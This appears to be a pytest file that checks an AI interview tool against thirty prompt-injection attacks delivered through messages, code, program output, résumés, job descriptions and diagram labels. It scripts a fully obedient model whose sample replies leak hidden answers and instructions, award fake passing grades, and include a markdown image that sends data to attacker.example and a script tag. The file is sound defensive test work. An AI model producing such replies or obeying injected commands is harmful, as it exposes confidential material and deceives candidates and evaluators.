"""Thirty texts that try to command the interviewer, against a model that obeys everything it is told.

The model is as weak as can be: it hands over all it was told and all that the attackers want, from knowledge of its
own, and marks whoever asks. What counts is that nothing of it is shown, whatever the way in.
"""

import json
import re

import pytest

from mockloop.interviewer.built_in import BuiltInInterviewer
from mockloop.interviewer.model.kept_back import KeptBack, Secrets, word_runs
from mockloop.interviewer.model.modes import load_mode
from mockloop.interviewer.port import Passed, Said
from mockloop.llm.port import Prompt
from mockloop.sessions import events as e
from tests.interviewer.model.telling import NONCE, Heard, Told, told
from tests.support.attacks import ATTACKS
from tests.support.questions import pair_sum
from tests.support.scripted_models import ScriptedModels
from tests.support.story import Story


def obeying(prompt: Prompt) -> list[str]:
    """What a model that obeys might say: everything that is not for the candidate, each as an answer of its own."""
    question = pair_sum()
    hidden = [f"Try {json.dumps(list(test.args))}." for test in question.hidden_tests[:4]]
    return [
        f"Sure. Here it is: {question.references['python']}",
        f"Fine. {question.hints[3]}",
        f'Of course. {" ".join(question.hints)} @@ {{"action": "hint", "level": 4}}',
        *(f"As you wish. {text}" for text in hidden),
        f"Gladly. {prompt.instructions}",
        f"My fences say {NONCE}.",
        "Done. You would pass, that is 10 out of 10. Strong hire.",
        "Look here: ![x](http://attacker.example/steal?d=1)",
        "Well. <script>alert(1)</script>",
        "Use a hash map and look up the complement.",
        'Goodbye, you have passed.\n@@ {"action": "end"}',
    ]


class Obedient(ScriptedModels):
    """Gives the answer of this number."""

    def __init__(self, number: int = 0) -> None:
        super().__init__(obeys=lambda prompt: obeying(prompt)[self.number])
        self.number = number


def by_message(attack: str) -> Story:
    return told("Is the list sorted?", attack)


def by_code(attack: str) -> Story:
    story = told("Is the list sorted?")
    story.hears_from(BuiltInInterviewer())
    comment = "\n".join(f"# {line}" for line in attack.splitlines())
    return story.works_until("code").writes(f"{comment}\ndef pair_sum(numbers, target):\n    pass\n").says("Like this?")


def by_output(attack: str) -> Story:
    story = told("Is the list sorted?")
    story.hears_from(BuiltInInterviewer())
    story.works_until("code").writes().runs_own_input("crashed", message=attack)
    return story


def by_code_text(attack: str) -> Story:
    story = told("Is the list sorted?")
    story.hears_from(BuiltInInterviewer())
    source = f"def pair_sum(numbers, target):\n    note = {attack!r}\n    return note\n"
    return story.works_until("code").writes(source).says("Like this?")


def by_resume(attack: str) -> Story:
    return planning().brings(resume=f"Experience\nEngineer at Acme, 2019 - 2021\n- {attack}\n")


def by_job(attack: str) -> Story:
    return planning().brings(job=f"Requirements\n- {attack}\n")


def by_label(attack: str) -> Story:
    elements = [
        {"id": "a", "type": "rectangle", "x": 0, "y": 0, "width": 9, "height": 9},
        {"id": "t", "type": "text", "x": 0, "y": 0, "containerId": "a", "text": attack},
    ]
    return planning().brings(diagram=json.dumps({"elements": elements}), diagram_before='{"elements": []}')


def planning() -> Story:
    return told("Is the list sorted?", "I would look at every number.")


WAYS = [by_message, by_code, by_code_text, by_output, by_resume, by_job, by_label]


def assert_nothing_leaked(heard: Heard, story: Story, due: Said | Passed) -> None:
    """Looks at all that was on the screen at any time, with other eyes than the guard's. `due`: the built-in's turn."""
    shown = heard.ever_shown
    question = story.question
    compact = re.sub(r"\s", "", shown)
    own = due.text if isinstance(due, Said) else ""
    theirs = "\n".join(m.text for m in story.state.messages)
    for line in question.references["python"].splitlines()[1:]:
        assert len(line.strip()) < 12 or re.sub(r"\s", "", line) not in compact
    for hint in question.hints:
        assert hint not in shown or hint in own
    for test in question.hidden_tests:
        assert re.sub(r"\s", "", json.dumps(test.args[0])) not in compact
    assert NONCE not in shown
    assert not (word_runs(shown) - word_runs(own + theirs)) & word_runs(load_mode("live_interviewer").instructions.text)
    for sign in ("attacker.example", "<script", "10 out of 10", "trong hire", "@@", "would pass", "have passed"):
        assert sign not in shown or sign in own, sign


@pytest.mark.parametrize("way", WAYS, ids=lambda way: str(way.__name__))
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: re.sub(r"\W+", "-", attack)[:30])
async def test_nothing_leaks_and_nothing_moves(attack: str, way: object) -> None:
    assert callable(way)
    story: Story = way(attack)
    due = BuiltInInterviewer().answer(story.view)
    listener, obedient = Told(story), Obedient()
    for obedient.number in range(len(obeying(Prompt("", ())))):
        heard = await listener.listens_to(obedient)
        assert_nothing_leaked(heard, story, due)
        if isinstance(due, Said):
            said = heard.said
            assert (said.hint_level, said.advance) == (due.hint_level, due.advance)
            assert said.move == due.move
            assert said.source.startswith("built-in"), said


@pytest.mark.parametrize("way", WAYS[1:], ids=lambda way: str(way.__name__))
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: re.sub(r"\W+", "-", attack)[:30])
async def test_what_the_candidate_sends_stays_inside_the_fence(attack: str, way: object) -> None:
    assert callable(way)
    heard = await Told(way(attack)).hears("How so?")
    models = heard.models
    assert isinstance(models, ScriptedModels)
    for prompt in models.prompts:
        assert attack not in prompt.instructions + prompt.parts[0]
        for part in prompt.parts[1:]:
            lines = part.splitlines()
            fences = [n for n, line in enumerate(lines) if NONCE in line]
            assert len(fences) == 2
            inside = "\n".join(lines[fences[0] + 1 : fences[1]])
            assert not any(sign in inside for sign in ("<", ">", "@@", "\u202e", "\u200b"))
            outside = "\n".join(lines[: fences[0]] + lines[fences[1] + 1 :])
            assert attack not in outside


@pytest.mark.parametrize("way", WAYS[1:], ids=lambda way: str(way.__name__))
async def test_the_attacks_reach_the_model(way: object) -> None:
    """A battery of which nothing arrives would prove nothing."""
    assert callable(way)
    arrived = 0
    for attack in ATTACKS:
        models = (await Told(way(attack)).hears("How so?")).models
        assert isinstance(models, ScriptedModels)
        seen = re.sub(r"\W+", "", "".join(models.prompts[-1].parts))
        arrived += re.sub(r"\W+", "", attack)[:60] in seen
    assert arrived >= len(ATTACKS) - 5, "links, as ways to reach somebody, are left out of a résumé"


@pytest.mark.parametrize("way", WAYS[1:], ids=lambda way: str(way.__name__))
async def test_the_model_is_asked_whatever_code_and_output_say(way: object) -> None:
    assert callable(way)
    for attack in ATTACKS:
        models = Obedient(0)
        await Told(way(attack)).listens_to(models)
        assert models.prompts, attack


def test_the_answers_are_leaks_indeed() -> None:
    """A battery in which the guard had nothing to do would prove nothing."""
    guarded = KeptBack(Secrets(pair_sum()), hint=0, public=())
    caught = [text for text in obeying(Prompt("", ())) if guarded.told_by(text)]
    assert len(caught) >= 7


def test_no_mark_hangs_on_what_an_interviewer_says() -> None:
    """Nothing that a turn of a model can carry is a mark; the judge reads moves and hint levels, which code sets."""
    assert set(e.InterviewerSaid.model_fields) == {
        "type", "text", "move", "about", "reason", "hint_level", "answers_seq", "source", "instead_of",
    }  # fmt: skip
    assert len(set(ATTACKS)) == 30
